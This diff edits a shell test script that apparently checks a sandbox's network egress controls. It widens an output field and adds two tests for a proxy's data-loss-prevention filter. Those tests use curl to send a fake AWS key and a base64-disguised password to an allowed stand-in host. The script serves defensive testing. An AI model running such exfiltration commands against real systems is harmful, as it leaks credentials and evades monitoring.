@@ -6,7 +6,7 @@ try() {
     name="$1"; shift
     out=$("$@" 2>&1)
     code=$?
-    detail=$(printf '%s' "$out" | tr '\n\t' '  ' | cut -c1-160)
+    detail=$(printf '%s' "$out" | tr '\n\t' '  ' | cut -c1-300)
     printf '%s\t%s\t%s\n' "$name" "$code" "$detail"
 }
 try allowed   curl -sS -m 10 -w ' [HTTP %{http_code}]' http://allowed.example/
@@ -16,3 +16,7 @@ try raw-socket  curl -sS -m 5 --noproxy '*' -w ' [HTTP %{http_code}]' "http://${
 try dns       getent hosts evil.example
 try interfaces sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " " | tr "\n" " "'
 try whoami    id -un
+# Exfiltration through an allowed host: a cloud-key-shaped value, and the bottle's own secret
+# disguised as base64. The proxy's DLP engine must refuse both.
+try dlp-token curl -sS -m 10 -w ' [HTTP %{http_code}]' -X POST --data "aws_access_key_id=AKIADEMOQ7RXJ2M4KD8W" http://allowed.example/upload
+try dlp-secret curl -sS -m 10 -w ' [HTTP %{http_code}]' "http://allowed.example/search?q=$(printf %s "$DEMO_DB_PASSWORD" | base64 | tr -d '\n')"
